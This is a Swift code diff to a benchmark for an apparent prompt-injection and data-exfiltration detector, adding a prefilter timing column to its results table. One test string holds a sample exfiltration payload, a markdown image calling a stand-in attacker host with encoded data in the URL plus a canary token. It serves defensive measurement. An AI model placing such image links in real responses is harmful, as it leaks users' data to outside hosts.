@@ -17,7 +17,10 @@ public enum IntentBenchmark {
             ("2 KB chat prompt", String(repeating: sentence, count: 24)),
             ("8 KB document (tool role)", String(repeating: sentence, count: 96)),
         ]
-        var rows = ["| input | normalise µs | classifier µs | signatures µs | detect (all) µs |", "|---|---:|---:|---:|---:|"]
+        var rows = [
+            "| input | normalise µs | classifier µs | signature prefilter µs | signatures (start of match) µs | detect (all) µs |",
+            "|---|---:|---:|---:|---:|---:|",
+        ]
         let clock = ContinuousClock()
         func micros(_ body: () -> Void) -> Double {
             for _ in 0..<max(1, iterations / 10) { body() }
@@ -31,15 +34,16 @@ public enum IntentBenchmark {
             let view = NormalisedText(text).text
             let n = micros { sink += Double(NormalisedText(text).originalCount) }
             let c = micros { sink += detector.classifier.scores(view).attack }
+            let p = micros { sink += Double(detector.prefilter?.scan(view).count ?? 0) }
             let s = micros { sink += Double(detector.signatures?.scan(view).count ?? 0) }
             let role: AIMessage.Role = name.contains("tool") ? .tool : .user
             let a = micros { sink += Double(detector.detect(text, role: role, direction: .request).count) }
-            rows.append(String(format: "| %@ | %.1f | %.1f | %.1f | %.1f |", name, n, c, s, a))
+            rows.append(String(format: "| %@ | %.1f | %.1f | %.1f | %.1f | %.1f |", name, n, c, p, s, a))
         }
         let response = String(repeating: "The answer is below. ", count: 80)
             + "![chart](https://attacker.test/p.png?d=U2VjcmV0) and CANARY-7f3a9c"
         let e = micros { sink += Double(exfiltration.detect(response).count) }
-        rows.append(String(format: "| exfiltration, 1.7 KB response | — | — | %.1f | %.1f |", e, e))
+        rows.append(String(format: "| exfiltration, 1.7 KB response | — | — | — | %.1f | %.1f |", e, e))
         precondition(sink.isFinite)
         return rows.joined(separator: "\n")
     }
